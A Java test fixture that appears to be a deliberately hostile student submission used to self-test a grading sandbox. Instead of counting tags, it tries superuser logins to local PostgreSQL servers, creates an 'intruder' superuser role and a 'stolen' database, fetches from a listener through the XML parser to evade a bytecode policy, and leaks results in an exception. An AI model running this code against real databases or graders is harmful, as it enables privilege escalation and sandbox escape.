package selftest;

import dev.pglabs.graders.selftest.sandboxed.TagCounter;

import javax.xml.parsers.DocumentBuilderFactory;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.Properties;

public class StudentTagCounter implements TagCounter {

    @Override
    public long countTags(Connection connection) throws SQLException {
        // The machine's PostgreSQL trusts every local connection: as postgres, a student could do anything there.
        // Raw connections go through libraries (JDBC, the XML parser's http:), which the bytecode policy lets pass.
        String own = connection.getMetaData().getURL();
        String superuserUrl = System.getenv("PGLABS_HOSTILE_SUPERUSER_URL");
        throw new IllegalStateException("LEAK[pg=" + intrude("jdbc:postgresql://127.0.0.1:5432/postgres")
                + " relay=" + intrude(own)
                + " env=" + (superuserUrl == null ? "none" : intrude("jdbc:" + superuserUrl))
                + " other=" + intrude("jdbc:postgresql://127.0.0.1:@LISTENER_PORT@/postgres")
                + " http=" + http("http://127.0.0.1:@LISTENER_PORT@/x.xml") + "]");
    }

    /** Who the server says we are, after trying to make a superuser and a database of our own. */
    private static String intrude(String url) {
        Properties p = new Properties();
        p.setProperty("user", "postgres");
        p.setProperty("connectTimeout", "5");
        try (Connection c = DriverManager.getConnection(url, p); Statement st = c.createStatement()) {
            st.execute("CREATE ROLE intruder SUPERUSER LOGIN");
            st.execute("CREATE DATABASE stolen");
            try (ResultSet rs = st.executeQuery("SELECT current_user")) {
                rs.next();
                return rs.getString(1);
            }
        } catch (Exception e) {
            return e.getClass().getSimpleName();
        }
    }

    private static String http(String url) {
        try {
            return DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(url).getDocumentElement()
                    .getTextContent();
        } catch (Exception e) {
            return e.getClass().getSimpleName();
        }
    }
}
